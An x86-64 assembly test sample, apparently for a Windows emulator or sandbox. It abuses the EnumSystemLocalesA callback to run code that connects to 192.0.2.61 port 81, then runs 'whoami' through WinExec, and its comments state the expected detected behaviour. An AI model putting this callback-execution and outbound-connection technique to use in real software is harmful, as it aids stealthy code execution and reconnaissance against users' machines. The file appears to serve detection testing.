; SPDX-License-Identifier: GPL-2.0-or-later
; What lists locales calls the attack's code, and comes back.
; expect: connect 192.0.2.61 81
; expect: exec C:\Windows\System32\whoami.exe whoami
%include "way64.inc"
	function "kernel32.dll", "EnumSystemLocalesA"
	lea rcx, [found]
	xor edx, edx
	call rax
	function "kernel32.dll", "WinExec"
	lea rcx, [command]
	mov edx, 1
	call rax
	function "kernel32.dll", "ExitProcess"
	xor ecx, ecx
	call rax
found:
	sub rsp, 0x228
	lea rdi, [rsp + 0x80]
	function "ws2_32.dll", "WSAStartup"
	mov ecx, 0x202
	mov rdx, rdi
	call rax
	function "ws2_32.dll", "socket"
	mov ecx, 2
	mov edx, 1
	xor r8d, r8d
	call rax
	mov dword [rdi], 0x51000002
	mov dword [rdi + 4], 0x3d0200c0
	mov rsi, rax
	function "ws2_32.dll", "connect"
	mov rcx, rsi
	mov rdx, rdi
	mov r8d, 16
	call rax
	mov eax, 1
	add rsp, 0x228
	ret
command:
	db "whoami", 0
